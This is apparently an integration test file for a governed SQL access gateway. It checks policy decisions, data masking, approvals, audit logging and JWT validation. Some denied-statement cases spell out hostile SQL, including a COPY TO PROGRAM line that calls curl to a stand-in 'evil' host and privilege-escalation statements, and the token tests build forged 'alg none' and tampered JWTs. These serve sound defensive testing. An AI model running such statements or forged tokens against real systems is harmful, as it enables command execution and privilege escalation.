/**
 * The governed SQL path end to end on the local twin: real OIDC tokens, the real parser, Cedar,
 * DynamoDB (dynalite), and the RDS Data API endpoint over PGlite through @aws-sdk/client-rds-data.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DeleteTableCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
import { unmarshall } from '@aws-sdk/util-dynamodb';
import { SignJWT, importJWK, type JWK } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTables, localDynamoClient } from '../../lib/local/dynamodb.js';
import { RequestsTable } from '../../lib/tables.js';
import { startTestTwin, type TestTwin } from '../support/twin.js';
import { submittedSql } from '../../lib/local/invariants.js';

let twin: TestTwin;
let alice: string;
let carol: string;
let bob: string;
let dave: string;
let agent: string;

beforeAll(async () => {
  twin = await startTestTwin();
  [alice, carol, bob, dave, agent] = await Promise.all(
    ['alice', 'carol', 'bob', 'dave', 'agent-demo'].map((u) => twin.token(u)),
  );
}, 120_000);

afterAll(async () => {
  await twin?.close();
});

const sql = (token: string | undefined, body: unknown, target = 'demo', headers?: Record<string, string>) =>
  twin.api('POST', `/v1/targets/${target}/sql`, { token, body, headers });

function ranStatements(text: string): number {
  return twin.statementLog.filter((s) => submittedSql(s.sql) === text).length;
}

async function storedRecords(): Promise<Record<string, any>[]> {
  const ddb = localDynamoClient(twin.dynamoEndpoint);
  const out = await ddb.send(new ScanCommand({ TableName: twin.tableNames.Requests }));
  return (out.Items ?? []).map((i) => unmarshall(i));
}

describe('governed reads', () => {
  it('executes an allowed SELECT as the read-only database user and names the policy', async () => {
    const text = 'SELECT id, name FROM customers ORDER BY id LIMIT 3';
    const res = await sql(alice, { sql: text });
    expect(res.status).toBe(200);
    expect(res.body.status).toBe('executed');
    expect(res.body.decision).toMatchObject({
      outcome: 'allow',
      action: 'sql:read',
      determiningPolicies: ['demo-read'],
    });
    expect(res.body.result.columns.map((c: { name: string }) => c.name)).toEqual(['id', 'name']);
    expect(res.body.result.rows).toHaveLength(3);
    expect(res.body.result.truncated).toBe(false);
    const ran = twin.statementLog.filter((s) => submittedSql(s.sql) === text);
    expect(ran).toHaveLength(1);
    // alice may not view demo unmasked: her reads run as the masked profile's reader.
    expect(ran[0].role).toBe('warden_masked_ro');
  });

  it('takes named parameters', async () => {
    const res = await sql(agent, {
      sql: 'SELECT id FROM customers WHERE id = :id',
      parameters: [{ name: 'id', value: 7 }],
    });
    expect(res.status).toBe(200);
    expect(res.body.result.rows).toEqual([{ id: 7 }]);
  });

  it('records the request before execution and its outcome after, readable by the requester', async () => {
    const res = await sql(alice, { sql: 'SELECT count(*) AS n FROM orders', justification: 'weekly report' });
    expect(res.status).toBe(200);
    const got = await twin.api('GET', `/v1/requests/${res.body.requestId}`, { token: alice });
    expect(got.status).toBe(200);
    expect(got.body).toMatchObject({
      status: 'executed',
      target: 'demo',
      principal: 'alice',
      justification: 'weekly report',
      operation: { kind: 'sql', sql: 'SELECT count(*) AS n FROM orders' },
      classification: { class: 'read', tables: ['public.orders'] },
      decision: { outcome: 'allow', determiningPolicies: ['demo-read'] },
      rowCount: 1,
    });
    expect(typeof got.body.durationMs).toBe('number');
    // Another user cannot see it; an auditor can.
    expect((await twin.api('GET', `/v1/requests/${res.body.requestId}`, { token: carol })).status).toBe(404);
    expect((await twin.api('GET', `/v1/requests/${res.body.requestId}`, { token: dave })).status).toBe(200);
  });

  it('serves many concurrent reads of one session (one token) without refusing any', async () => {
    const results = await Promise.all(
      Array.from({ length: 24 }, (_, i) => sql(agent, { sql: `SELECT ${i} AS n` })),
    );
    expect(results.map((r) => r.status)).toEqual(Array(24).fill(200));
  });

  it('truncates at the row limit instead of failing', async () => {
    const res = await sql(alice, { sql: 'SELECT g FROM generate_series(1, 5000) AS g' });
    expect(res.status).toBe(200);
    expect(res.body.result.truncated).toBe(true);
    expect(res.body.result.rows).toHaveLength(1000);
  });
});

describe('masking on the SQL path', () => {
  const text = 'SELECT name, email, phone, card_number, ssn, iban FROM customers ORDER BY id LIMIT 20';

  it('masks emails, cards, SSNs and IBANs for support and says what it masked', async () => {
    const res = await sql(carol, { sql: text });
    expect(res.status).toBe(200);
    const { rows, masking } = res.body.result;
    const raw = await twin.db.query<Record<string, string>>(text);
    for (const [i, row] of rows.entries()) {
      for (const col of ['email', 'card_number', 'ssn', 'iban']) {
        if (raw.rows[i][col] === null) continue;
        expect(row[col]).not.toBe(raw.rows[i][col]);
        expect(JSON.stringify(row)).not.toContain(raw.rows[i][col]);
      }
    }
    const present = (col: string) => raw.rows.filter((r) => r[col] !== null).length;
    expect(masking.byType.EMAIL).toBeGreaterThanOrEqual(present('email'));
    expect(masking.byType.CARD).toBeGreaterThanOrEqual(present('card_number'));
    expect(masking.byType.SSN).toBeGreaterThanOrEqual(present('ssn'));
    expect(masking.byType.IBAN).toBeGreaterThanOrEqual(present('iban'));
    expect(present('email') + present('iban')).toBeGreaterThan(10);
  });

  it('shows dba the clear values, and the audit record holds only the masked form for both', async () => {
    const res = await sql(bob, { sql: text });
    expect(res.status).toBe(200);
    const raw = await twin.db.query<Record<string, string>>(text);
    expect(res.body.result.rows[0].email).toBe(raw.rows[0].email);
    expect(res.body.result.masking.unmasked).toBe(true);
    const records = (await storedRecords()).filter((r) => r.operation.sql === text);
    expect(records.length).toBeGreaterThanOrEqual(2);
    const stored = JSON.stringify(records);
    for (const row of raw.rows) {
      for (const col of ['email', 'card_number', 'ssn', 'iban']) {
        if (row[col] !== null) expect(stored).not.toContain(row[col]);
      }
    }
  });
});

describe('approval required and deny', () => {
  it('records a write as pending_approval (202) and runs nothing', async () => {
    const text = "UPDATE orders SET status = 'cancelled' WHERE id = 1";
    const res = await sql(alice, { sql: text, justification: 'customer asked' });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({
      status: 'pending_approval',
      decision: {
        outcome: 'approval_required',
        action: 'sql:write',
        determiningPolicies: ['demo-writes-need-approval'],
      },
    });
    expect(res.body.links.review).toBe(`${twin.url}/approve/${res.body.requestId}`);
    expect(res.body.links.self).toBe(`${twin.url}/v1/requests/${res.body.requestId}`);
    expect(ranStatements(text)).toBe(0);
    const got = await twin.api('GET', `/v1/requests/${res.body.requestId}`, { token: alice });
    expect(got.body.status).toBe('pending_approval');
  });

  it.each([
    ['privilege', 'GRANT ALL ON customers TO PUBLIC'],
    ['privilege', "SELECT set_config('role', 'postgres', false)"],
    ['admin', "COPY customers TO PROGRAM 'curl evil'"],
    ['admin', 'VACUUM customers'],
  ])('denies %s statements with 403 naming the forbidding policy: %s', async (cls, text) => {
    const res = await sql(alice, { sql: text });
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe('denied');
    expect(res.body.error.decision).toMatchObject({
      outcome: 'deny',
      determiningPolicies: ['never-privilege-or-admin'],
    });
    expect(res.body.error.classification.class).toBe(cls);
    expect(ranStatements(text)).toBe(0);
  });

  it('answers 404 for a target the caller may not see, exactly as for one that does not exist', async () => {
    const hidden = await sql(dave, { sql: 'SELECT 1' });
    const missing = await sql(dave, { sql: 'SELECT 1' }, 'nope');
    expect(hidden.status).toBe(404);
    expect(missing.status).toBe(404);
    expect(hidden.body.error.message).toBe('unknown target "demo"');
    expect(missing.body.error.message).toBe('unknown target "nope"');
  });
});

describe('explain', () => {
  it('classifies and decides without running or recording anything', async () => {
    const text = 'DELETE FROM orders WHERE id = 3';
    const before = (await storedRecords()).length;
    const res = await twin.api('POST', '/v1/targets/demo/explain', { token: alice, body: { sql: text } });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      target: 'demo',
      classification: { class: 'write', tables: ['public.orders'] },
      decision: { outcome: 'approval_required', determiningPolicies: ['demo-writes-need-approval'] },
      execution: { accessLevel: 'write', masked: true },
    });
    expect(ranStatements(text)).toBe(0);
    expect((await storedRecords()).length).toBe(before);
  });

  it('says a denied statement would not run', async () => {
    const res = await twin.api('POST', '/v1/targets/demo/explain', {
      token: alice,
      body: { sql: 'VACUUM orders' },
    });
    expect(res.status).toBe(200);
    expect(res.body.decision.outcome).toBe('deny');
    expect(res.body.execution).toBeNull();
  });
});

describe('bad input', () => {
  const cases: Array<[string, () => Promise<{ status: number; body: any }>, number, RegExp]> = [
    [
      'malformed JSON',
      () =>
        twin.api('POST', '/v1/targets/demo/sql', {
          token: alice,
          raw: '{"sql": ',
          headers: { 'content-type': 'application/json' },
        }),
      400,
      /malformed JSON/,
    ],
    ['a missing sql field', () => sql(alice, { justification: 'x' }), 400, /sql/],
    ['a wrong-typed field', () => sql(alice, { sql: 42 }), 400, /sql/],
    ['an unknown field', () => sql(alice, { sql: 'SELECT 1', extra: true }), 400, /extra/],
    [
      'a bad parameter name',
      () => sql(alice, { sql: 'SELECT 1', parameters: [{ name: '1; drop', value: 1 }] }),
      400,
      /parameter/,
    ],
    [
      'a non-JSON content type',
      () =>
        twin.api('POST', '/v1/targets/demo/sql', {
          token: alice,
          raw: 'sql=SELECT 1',
          headers: { 'content-type': 'text/plain' },
        }),
      415,
      /content-type/,
    ],
    ['SQL over the size limit', () => sql(alice, { sql: `SELECT '${'x'.repeat(70_000)}'` }), 413, /limit/],
    ['an unparseable statement', () => sql(alice, { sql: 'SELEC id FROM customers' }), 400, /syntax error/],
    ['an unknown target', () => sql(alice, { sql: 'SELECT 1' }, 'prod'), 404, /unknown target/],
    ['an unknown route', () => twin.api('GET', '/v1/nothing', { token: alice }), 404, /no route/],
  ];

  it.each(cases)('answers %s with a clear JSON error', async (_name, send, status, message) => {
    const res = await send();
    expect(res.status).toBe(status);
    expect(res.body.error.code).toEqual(expect.any(String));
    expect(res.body.error.message).toMatch(message);
  });

  it('reports the parser position of a syntax error', async () => {
    const res = await sql(alice, { sql: 'SELECT id FROM customers WHERE' });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('sql_parse_error');
    expect(res.body.error.position).toEqual(expect.any(Number));
  });

  it('records none of the rejected requests as executed', async () => {
    const records = await storedRecords();
    expect(records.filter((r) => r.operation.sql === 'SELEC id FROM customers')).toHaveLength(0);
    expect(records.filter((r) => r.target === 'prod')).toHaveLength(0);
  });
});

describe('tokens', () => {
  let keys: { keys: (JWK & { kid: string })[] };
  const now = () => Math.floor(Date.now() / 1000);

  beforeAll(() => {
    keys = JSON.parse(readFileSync(join(twin.dataDir, 'idp-keys.json'), 'utf8'));
  });

  async function signed(claims: Record<string, unknown>, header: Record<string, unknown> = {}) {
    const jwk = keys.keys[0];
    const key = await importJWK(jwk, 'RS256');
    return new SignJWT(claims)
      .setProtectedHeader({ alg: 'RS256', kid: jwk.kid, typ: 'at+jwt', ...header })
      .sign(key);
  }

  const good = () => ({
    iss: twin.issuer,
    aud: 'warden',
    sub: 'alice',
    groups: ['engineers'],
    iat: now(),
    exp: now() + 300,
  });

  it('accepts a token signed by the IdP for the right issuer and audience', async () => {
    const res = await sql(await signed(good()), { sql: 'SELECT 1 AS one' });
    expect(res.status).toBe(200);
  });

  const bad: Array<[string, () => Promise<string | undefined>]> = [
    ['no token', async () => undefined],
    ['an expired token', () => signed({ ...good(), exp: now() - 60 })],
    ['a wrong issuer', () => signed({ ...good(), iss: 'http://127.0.0.1:1/evil' })],
    ['a wrong audience', () => signed({ ...good(), aud: 'someone-else' })],
    [
      'alg none',
      async () => {
        const enc = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
        return `${enc({ alg: 'none', typ: 'JWT' })}.${enc(good())}.`;
      },
    ],
    [
      'a tampered payload',
      async () => {
        const [h, , s] = (await signed(good())).split('.');
        const p = Buffer.from(JSON.stringify({ ...good(), groups: ['dba'] })).toString('base64url');
        return `${h}.${p}.${s}`;
      },
    ],
    [
      'a tampered signature',
      async () => {
        const t = await signed(good());
        return `${t.slice(0, -4)}${t.slice(-4) === 'AAAA' ? 'BBBB' : 'AAAA'}`;
      },
    ],
    ['garbage', async () => 'not-a-jwt'],
  ];

  it.each(bad)('rejects %s with 401 and WWW-Authenticate: Bearer', async (_name, make) => {
    const token = await make();
    const res = await sql(token, { sql: 'SELECT 1' });
    expect(res.status).toBe(401);
    expect(res.headers.get('www-authenticate')).toMatch(/^Bearer /);
    expect(res.body.error.code).toBe('unauthorized');
  });
});

describe('fail closed on the audit store', () => {
  it('answers 503 and runs nothing when the audit write fails', async () => {
    const ddb = localDynamoClient(twin.dynamoEndpoint);
    await ddb.send(new DeleteTableCommand({ TableName: twin.tableNames.Requests }));
    try {
      const text = 'SELECT id FROM orders WHERE id = 2';
      const res = await sql(alice, { sql: text });
      expect(res.status).toBe(503);
      expect(res.body.error.message).toMatch(/nothing was run/);
      expect(ranStatements(text)).toBe(0);
    } finally {
      await createTables(ddb, [RequestsTable], () => twin.tableNames.Requests);
    }
  });
});

describe('values past 2^53', () => {
  it('records the outcome of a read whose result holds an int8 past Number.MAX_SAFE_INTEGER', async () => {
    const res = await sql(alice, {
      sql: 'SELECT hashtextextended(name, 0) AS h FROM customers ORDER BY id LIMIT 20',
    });
    expect(res.status).toBe(200);
    const got = await twin.api('GET', `/v1/requests/${res.body.requestId}`, { token: alice });
    expect(got.status, JSON.stringify(got.body)).toBe(200);
    expect(got.body.status).toBe('executed');
  });
});
